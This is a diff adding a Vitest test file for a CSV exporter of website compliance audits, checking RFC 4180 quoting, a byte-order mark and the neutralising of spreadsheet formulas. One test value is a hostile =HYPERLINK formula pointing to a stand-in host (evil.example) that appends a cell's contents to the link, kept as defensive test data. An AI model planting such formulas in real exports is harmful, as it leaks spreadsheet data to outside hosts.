@@ -1,0 +1,85 @@
+import { describe, expect, it } from 'vitest';
+import { auditsToCsv as auditsToCsvBlob, BOM, csvCell, csvRow } from '@/evidence/export/csv';
+import type { AuditResult, Locale } from '@/rules/types';
+
+/** The file's text, with its byte-order mark (Blob.text() would drop it). */
+const auditsToCsv = async (audits: AuditResult[], locale: Locale) =>
+  new TextDecoder('utf-8', { ignoreBOM: true }).decode(await (await auditsToCsvBlob(audits, locale)).arrayBuffer());
+import { HOSTILE_FORMULA, HOSTILE_TEXT, hostileAudit, sampleAudit } from '../helpers';
+
+/** A small RFC 4180 reader, to check that what was written reads back cell for cell. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i];
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
+      else if (c === '"') quoted = false;
+      else cell += c;
+    } else if (c === '"') quoted = true;
+    else if (c === ',') row.push(cell), (cell = '');
+    else if (c === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
+    else cell += c;
+  }
+  return rows;
+}
+
+describe('csvCell', () => {
+  it.each([
+    ['=1+1', "'=1+1"],
+    ['+86 10 1234', "'+86 10 1234"],
+    ['-2', "'-2"],
+    ['@SUM(A1)', "'@SUM(A1)"],
+    ['\t=1', "'\t=1"],
+    ['\r=1', `"'\r=1"`],
+    [HOSTILE_FORMULA, `"'=HYPERLINK(""http://evil.example/?""&A1,""点击领取"")"`],
+  ])('neutralises the formula %j', (input, expected) => {
+    expect(csvCell(input)).toBe(expected);
+  });
+
+  it('quotes commas, quotes and line breaks (RFC 4180) and leaves plain text and Chinese alone', () => {
+    expect(csvCell('a,b')).toBe('"a,b"');
+    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
+    expect(csvCell('one\ntwo')).toBe('"one\ntwo"');
+    expect(csvCell('京ICP备11041704号-1')).toBe('京ICP备11041704号-1');
+    expect(csvCell(62)).toBe('62');
+    expect(csvCell(null)).toBe('');
+  });
+
+  it('ends rows with CRLF', () => {
+    expect(csvRow(['a', 1, null])).toBe('a,1,\r\n');
+  });
+});
+
+describe('auditsToCsv', () => {
+  it('starts with a byte-order mark and has one row per audit and one per finding', async () => {
+    const audit = sampleAudit();
+    const csv = await auditsToCsv([audit, audit], 'zh_CN');
+    expect(csv.startsWith(BOM)).toBe(true);
+    const rows = parseCsv(csv.slice(1));
+    expect(rows[0][0]).toBe('类型');
+    expect(rows).toHaveLength(1 + 2 * (1 + audit.results.length));
+    expect(rows[1].slice(0, 4)).toEqual(['核查', '1', 'https://shop.example.cn/', '示例商城 - 正品低价 网上购物']);
+    const finding = rows.find((r) => r[12] === 'business-licence')!;
+    expect(finding).toMatchObject({ 0: '核查项', 1: '1', 15: '不符合', 16: 'G1 art. 9; G2 art. 8(1); E-Commerce Law art. 15' });
+    expect(rows.every((r) => r.length === rows[0].length)).toBe(true);
+  });
+
+  it('writes English headers when asked', async () => {
+    const rows = parseCsv((await auditsToCsv([sampleAudit()], 'en')).slice(1));
+    expect(rows[0].slice(0, 3)).toEqual(['Kind', 'Audit', 'URL']);
+  });
+
+  it('shows hostile page text as text: no cell a spreadsheet would run', async () => {
+    const csv = await auditsToCsv([hostileAudit()], 'en');
+    const cells = parseCsv(csv.slice(1)).flat();
+    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    const evidence = cells.find((c) => c.includes('HYPERLINK'))!;
+    expect(evidence.startsWith("'=HYPERLINK")).toBe(true);
+    expect(cells.some((c) => c.includes(HOSTILE_TEXT))).toBe(true);
+    expect(cells).toContain('\'-2+3 "quoted", comma\nnew line');
+  });
+});
